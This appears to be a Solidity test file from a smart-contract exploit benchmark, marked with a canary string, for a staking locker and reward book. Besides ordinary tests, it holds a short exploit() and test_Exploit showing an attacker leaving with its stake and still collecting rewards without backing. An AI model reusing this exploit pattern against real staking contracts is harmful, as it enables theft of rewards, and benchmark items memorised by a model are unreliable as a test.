// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

// assay-canary-00d71468-5d48-46b3-91e3-1bf828325c0d

import "./StakeLocker.sol";
import "./context/RewardBook.sol";

interface Vm {
    function prank(address who) external;
    function warp(uint256 timestamp) external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
}

contract Chit is IERC20 {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 value) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += value;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= value;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        return true;
    }
}

/// Opens entries, and breaks off when one is to be closed.
contract MuteBook {
    fallback() external {
        if (msg.sig == IRewardBook.close.selector) revert();
    }
}

contract Guardian {
    function rest(RewardBook book) external {
        book.rest();
    }

    function retire(RewardBook book) external {
        book.retire();
    }

    function setYard(RewardBook book, LockerYard yard) external {
        book.setYard(ILockerYard(address(yard)));
    }
}

contract Staker {
    StakeLocker public locker;

    constructor(LockerYard yard) {
        locker = yard.build();
        Chit(address(yard.token())).approve(address(locker), type(uint256).max);
    }

    function stake(uint256 amount, uint256 term) external {
        locker.stake(amount, term);
    }

    function leave() external returns (uint256) {
        return locker.leave(address(this));
    }

    function claim() external returns (uint256) {
        return locker.claim(address(this));
    }

    function recover(IERC20 stray) external returns (uint256) {
        return locker.recoverStray(stray, address(this));
    }
}

/// A staker like any other.
contract Attacker is Staker {
    constructor(LockerYard yard) Staker(yard) {}
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_767_000_000;

    Chit public stakeToken;
    Chit public rewardToken;
    RewardBook public book;
    LockerYard public yard;
    Guardian private guardian;
    Staker public mia;
    Attacker public ghost;
    StakeLocker private ghostLocker;

    function setUp() public {
        vm.warp(START);
        stakeToken = new Chit();
        rewardToken = new Chit();
        guardian = new Guardian();
        book = new RewardBook(rewardToken, 0.05 ether, address(guardian));
        yard = new LockerYard(stakeToken, book);
        guardian.setYard(book, yard);
        rewardToken.mint(address(book), 5_000_000 ether);
        mia = new Staker(yard);
        ghost = new Attacker(yard);
        ghostLocker = ghost.locker();
        stakeToken.mint(address(mia), 300_000 ether);
        stakeToken.mint(address(ghost), 100_000 ether);
        mia.stake(300_000 ether, 14 days);
        ghost.stake(100_000 ether, 14 days);
        vm.warp(START + 20 days);
        ghost.claim();
        guardian.rest(book);
    }

    // While it is in use the book counts no more than the lockers hold.
    function entriesAreBacked() public view returns (bool) {
        uint256 inside = stakeToken.balanceOf(address(mia.locker())) + stakeToken.balanceOf(address(ghostLocker));
        return book.retiredAt() != 0 || book.total() <= inside;
    }

    function test_Regular() public {
        require(entriesAreBacked(), "backed");
        // The rest is over after three days; leaving ends the entry.
        vm.warp(START + 23 days);
        require(ghost.leave() == 100_000 ether, "stake is back");
        require(book.total() == 300_000 ether, "entry ended");
        uint256 due = ghost.claim();
        vm.warp(START + 30 days);
        require(due == 3_240 ether && ghost.claim() == 0, "earned until leaving");
        try ghost.leave() returns (uint256) {
            revert("left twice");
        } catch {}

        // Terms only become longer.
        ghost.stake(10_000 ether, 30 days);
        ghost.stake(10_000 ether, 7 days);
        try ghost.leave() returns (uint256) {
            revert("left early");
        } catch {}
        stakeToken.mint(address(ghost.locker()), 5 ether);
        require(ghost.recover(stakeToken) == 5 ether, "stray only");

        // A retired book lets stakes go, and pays what was earned.
        guardian.retire(book);
        due = mia.locker().earned();
        vm.warp(START + 40 days);
        require(mia.leave() == 300_000 ether, "stake is back from a retired book");
        require(mia.claim() == due && due > 0, "earned until retirement");
        require(book.total() == 320_000 ether, "entries are frozen");

        vm.prank(address(ghost));
        ghostLocker.prolong(60 days);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// A locker is its owner's.
    function test_RefusesStrangers() public {
        stakeToken.mint(address(this), 10 ether);
        stakeToken.approve(address(ghostLocker), 10 ether);
        vm.warp(START + 30 days);
        vm.expectRevert(StakeLocker.NotOwner.selector);
        ghostLocker.stake(1 ether, 7 days);
        vm.expectRevert(StakeLocker.NotOwner.selector);
        ghostLocker.prolong(7 days);
        vm.expectRevert(StakeLocker.NotOwner.selector);
        ghostLocker.claim(address(this));
        vm.expectRevert(StakeLocker.NotOwner.selector);
        ghostLocker.leave(address(this));
        rewardToken.mint(address(ghostLocker), 1);
        vm.expectRevert(StakeLocker.NotOwner.selector);
        ghostLocker.recoverStray(rewardToken, address(this));
    }

    /// Stakes and terms that are none, and strays that are none.
    function test_RefusesTerms() public {
        vm.warp(START + 30 days);
        refuses(address(ghost), StakeLocker.NothingStaked.selector);
        ghostLocker.stake(0, 7 days);
        stakeToken.mint(address(ghost), 10 ether);
        refuses(address(ghost), StakeLocker.TermOutOfRange.selector);
        ghostLocker.stake(1 ether, 7 days - 1);
        refuses(address(ghost), StakeLocker.TermOutOfRange.selector);
        ghostLocker.stake(1 ether, 730 days + 1);
        refuses(address(ghost), StakeLocker.TermOutOfRange.selector);
        ghostLocker.prolong(730 days + 1);
        vm.prank(address(ghost));
        ghostLocker.prolong(30 days);
        refuses(address(ghost), StakeLocker.TermOutOfRange.selector);
        ghostLocker.prolong(30 days);
        refuses(address(ghost), StakeLocker.NotStray.selector);
        ghostLocker.recoverStray(rewardToken, address(this));
        StakeLocker empty = yard.build();
        vm.expectRevert(StakeLocker.NothingStaked.selector);
        empty.prolong(7 days);
    }

    /// A book that breaks off without a reason keeps the stake in its locker.
    function test_RefusesToLeaveAMuteBook() public {
        StakeLocker own = new StakeLocker(stakeToken, IRewardBook(address(new MuteBook())), address(this));
        stakeToken.mint(address(this), 1 ether);
        stakeToken.approve(address(own), 1 ether);
        own.stake(1 ether, 7 days);
        vm.warp(block.timestamp + 7 days);
        vm.expectRevert();
        own.leave(address(this));
    }

    /// Tokens that say no are believed.
    function test_RefusesFailedTransfers() public {
        vm.warp(START + 30 days);
        rewardToken.mint(address(ghostLocker), 1);
        stakeToken.mint(address(ghost), 1 ether);
        stakeToken.sleep(true);
        rewardToken.sleep(true);
        refuses(address(ghost), StakeLocker.TokenFailed.selector);
        ghostLocker.stake(1 ether, 7 days);
        refuses(address(ghost), StakeLocker.TokenFailed.selector);
        ghostLocker.recoverStray(rewardToken, address(this));
        refuses(address(ghost), StakeLocker.TokenFailed.selector);
        ghostLocker.leave(address(ghost));
    }

    function exploit() public {
        ghost.leave();
        vm.warp(START + 120 days);
        ghost.claim();
    }

    function test_Exploit() public {
        uint256 before = rewardToken.balanceOf(address(ghost));
        exploit();
        require(!entriesAreBacked(), "entry without a stake");
        require(stakeToken.balanceOf(address(ghost)) == 100_000 ether, "stake is out");
        require(rewardToken.balanceOf(address(ghost)) >= before + 100_000 ether, "still earning");
    }

    function target() public view returns (address) {
        return address(ghostLocker);
    }

    function attacker() public view returns (address) {
        return address(ghost);
    }
}
